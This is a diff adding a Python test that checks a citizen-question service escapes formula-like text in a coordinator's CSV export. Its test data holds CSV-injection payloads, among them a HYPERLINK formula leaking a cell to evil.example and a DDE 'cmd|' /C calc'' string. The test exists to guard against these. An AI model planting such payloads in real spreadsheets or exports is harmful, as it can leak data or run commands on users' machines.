@@ -10,6 +10,7 @@ import httpx
 from sqlalchemy.engine import Engine
 
 from tests.accounts.helpers import make_token, make_user, sign_in
+from tests.conftest import clear_tables
 from tests.metrics.conftest import MetricsWorld
 
 PERIOD = "from=2026-03-02&to=2026-03-15"
@@ -218,3 +219,35 @@ async def test_dates_far_outside_any_period_are_refused_kindly(
         response = await client.get(url, headers=headers)
         assert response.status_code == 422, url
         assert response.json()["error"]["code"] == "date_out_of_range"
+
+
+async def test_formulas_typed_by_citizens_reach_the_csv_as_text(
+    client: httpx.AsyncClient, db_engine: Engine
+) -> None:
+    """The review's CSV injection: anonymous questions became "=HYPERLINK(...)" cells in the
+    coordinator's Excel export. Every cell that starts like a formula gets an apostrophe."""
+    clear_tables(db_engine, "triage_event")
+    formulas = [
+        '=HYPERLINK("https://evil.example/?leak="&B2,"Klik her")',
+        "@SUM(1+1)*cmd|' /C calc'!A0 jeg vil tale med et menneske",
+        "+kommunen kan ikke åbne min digitale post",
+        "-jeg har glemt adgangskoden til biblioteket",
+    ]
+    for formula in formulas:
+        for _ in range(6):
+            triaged = await client.post("/api/v1/triage", json={"text": formula, "lang": "da"})
+            assert triaged.status_code == 200
+            token = triaged.json()["feedback_token"]
+            feedback = await client.post(
+                "/api/v1/feedback", json={"token": token, "helpful": False}
+            )
+            assert feedback.status_code == 200
+    await signed_in(client, db_engine, "coordinator")
+    rows = read_csv(await client.get("/coordinator/export/unmet.csv?lang=en"))
+    titles = [row[0] for row in rows[1:]]
+    for formula in formulas:
+        assert "'" + formula in titles, titles
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    clear_tables(db_engine, "triage_event")
